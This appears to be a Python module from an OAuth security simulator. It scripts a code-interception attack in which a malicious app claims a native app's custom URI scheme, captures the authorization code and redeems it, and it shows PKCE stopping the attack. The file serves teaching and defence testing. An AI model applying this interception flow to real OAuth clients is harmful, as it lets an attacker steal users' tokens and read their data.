"""code-interception: on the victim's phone, a malicious app registered for the same private-use
URI scheme as a native app receives that app's authorization response and redeems the code
(RFC 7636 §1, RFC 8252 §7.1, §8.1). PKCE stops it.

The victim uses a native app, public client `demo-native` (no secret), whose redirect URI is
`com.example.photoprinter:/callback`, a private-use ("custom") URI scheme (RFC 8252 §7.1).
The app opens the browser with its authorization request; after login and consent the
authorization server answers with a redirect whose `Location` is that custom-scheme URI. A
browser cannot load such a URI over HTTP: it hands it to the operating system, which launches
the app registered for the scheme. A malicious app on the same phone registered the same
scheme, and the operating system may pick it (RFC 7636 §1: "The operating systems must allow
a custom URI scheme to be registered by multiple applications").

A real phone does that hand-over without HTTP. The simulator draws it as one message from the
user agent to the attacker, `GET /simulated-os-dispatch` with the custom-scheme URI's query
(code, state, iss): the only way the attacker learns the code, and labelled for what it is.
The malicious app then redeems the code at the token endpoint as `demo-native`, which needs
no secret. With PKCE the code is bound to a code_challenge whose code_verifier never left the
real app: the attacker has none and gets invalid_grant. Without PKCE (a public client that
sends no challenge) the attacker gets tokens and reads the victim's profile.

Not a cause here: a tampered redirect_uri. A code sent to a URI the attacker chose is
redirect-uri-tampering, stopped by exact redirect URI matching, not by PKCE.
"""

from __future__ import annotations

import secrets
from urllib.parse import urlencode, urlsplit

from sim import defences
from sim.parties import ALL_SCOPES, ATTACKER, AUTHORIZATION_SERVER, USER_AGENT, client_by_id
from sim.scenarios.attack_common import (
    answer_param,
    error_of,
    pkce_pair,
    profile_owner,
    read_profile,
)
from sim.scenarios.base import (
    AttackScenario,
    Attempt,
    Guard,
    ScenarioError,
    StepNote,
    log_in_and_consent,
    step,
)

NATIVE = client_by_id("demo-native")
#: The native app's registered redirect URI, of its private-use scheme (RFC 8252 §7.1).
REDIRECT_URI = NATIVE.redirect_path or ""
SCHEME = urlsplit(REDIRECT_URI).scheme
#: Where the simulator draws the operating system's hand-over to the malicious app.
DISPATCH_PATH = "/simulated-os-dispatch"


def native_authorization_url(stage, state: str, challenge: str | None) -> str:
    """The authorization request the native app opens the browser with (RFC 8252 §6)."""
    params = {
        "response_type": "code",
        "client_id": NATIVE.client_id,
        "redirect_uri": REDIRECT_URI,
        "scope": ALL_SCOPES,
        "state": state,
    }
    if challenge is not None:
        params.update(code_challenge=challenge, code_challenge_method="S256")
    return stage.authorization_server_url + "/authorize?" + urlencode(params)


def dispatch_url(attacker_url: str, custom_uri: str) -> str:
    """The simulator's stand-in for the OS launching the malicious app with `custom_uri`:
    the attacker's server, at DISPATCH_PATH, with the custom-scheme URI's query."""
    return f"{attacker_url}{DISPATCH_PATH}?{urlsplit(custom_uri).query}"


def _first_request(event) -> bool:
    return 300 <= event.status < 400 and urlsplit(event.location or "").path == "/login"


def _to_native_app(event) -> bool:
    return (event.location or "").startswith(REDIRECT_URI)


class CodeInterception(AttackScenario):
    name = "code-interception"
    description = (
        "A malicious app claims a native app's custom URI scheme and receives its code (PKCE)"
    )
    rfc = "RFC 7636 §1, RFC 8252 §8.1"
    guards = (
        Guard(
            defences.PKCE,
            step(ATTACKER, AUTHORIZATION_SERVER, "POST", "/token"),
            "the code was issued for a code_challenge and the malicious app has no "
            "code_verifier for it: invalid_grant",
            "no code_challenge was sent, so the server cannot tell the app that asked for "
            "the code from the one redeeming it",
            "RFC 7636 §4.6, RFC 9700 §4.5.3.1",
        ),
    )

    notes = (
        StepNote(
            step(USER_AGENT, AUTHORIZATION_SERVER, "GET", "/authorize", _first_request),
            f"The native app (public client {NATIVE.client_id}, no secret) opens the browser "
            f"with its authorization request, redirect_uri {REDIRECT_URI}. With PKCE it sends "
            "a code_challenge; the code_verifier stays inside the app.",
            "RFC 8252 §6, RFC 7636 §4.3",
        ),
        StepNote(
            step(USER_AGENT, AUTHORIZATION_SERVER, "POST", "/authorize", _to_native_app),
            f"The authorization response: a redirect to the native app's registered redirect "
            f"URI, {REDIRECT_URI}, a private-use URI scheme. The browser cannot load it over "
            "HTTP; it hands it to the operating system, which launches the app registered "
            "for the scheme.",
            "RFC 8252 §7.1",
        ),
        StepNote(
            step(USER_AGENT, ATTACKER, "GET", DISPATCH_PATH),
            f"Simulated OS dispatch (no HTTP on a real phone): a malicious app registered the "
            f"same '{SCHEME}' scheme, and the operating system hands the redirect to it "
            "instead of the real app. The malicious app now holds the code and the state, "
            "not the code_verifier, which never left the real app.",
            "RFC 7636 §1, RFC 8252 §8.1",
        ),
        StepNote(
            step(ATTACKER, AUTHORIZATION_SERVER, "POST", "/token", lambda e: e.status < 400),
            "The malicious app redeems the code as demo-native, a public client that needs no "
            "secret. No code_challenge was sent with this code, so there is nothing to check "
            "it against: the server issues tokens to whoever brings the code.",
            "RFC 7636 §1",
        ),
    )

    def attack(self, stage, flow, off, attacker) -> Attempt:
        victim = stage.user_agent(flow)
        _, challenge = pkce_pair()  # the verifier stays in the real app
        use_pkce = defences.PKCE not in off
        url = native_authorization_url(
            stage, secrets.token_urlsafe(16), challenge if use_pkce else None
        )
        last = log_in_and_consent(victim, victim.get(url), stop_at=REDIRECT_URI)
        response_url = victim.location(last) or ""
        if not response_url.startswith(REDIRECT_URI) or not answer_param(response_url, "code"):
            raise ScenarioError(f"no code in the authorization response ({last.status_code})")
        # The operating system hands the custom-scheme URI to the malicious app, not the
        # real one (drawn as a message to the attacker: see the module docstring).
        victim.get(dispatch_url(stage.attacker_url, response_url))
        code = attacker.last("leak", "code")
        redeemed = attacker.http.post(
            stage.authorization_server_url + "/token",
            data={
                "grant_type": "authorization_code",
                "code": code,
                "redirect_uri": REDIRECT_URI,
                "client_id": NATIVE.client_id,
            },
            timeout=10,
        )
        profile = None
        if redeemed.ok:
            profile = read_profile(attacker.http, stage, redeemed.json()["access_token"])
        owner = profile_owner(profile)
        return Attempt(
            {
                "client": NATIVE.client_id,
                "redirect_uri": REDIRECT_URI,
                "challenge_sent": use_pkce,
                "code_intercepted": bool(code),
                "token_status": redeemed.status_code,
                "token_error": error_of(redeemed) or None,
                "attacker_read_profile_of": owner,
            },
            proof=profile if owner == "alice" else None,
            proves="the malicious app reads alice's profile with a token from the intercepted code",
        )


SCENARIOS = [CodeInterception()]
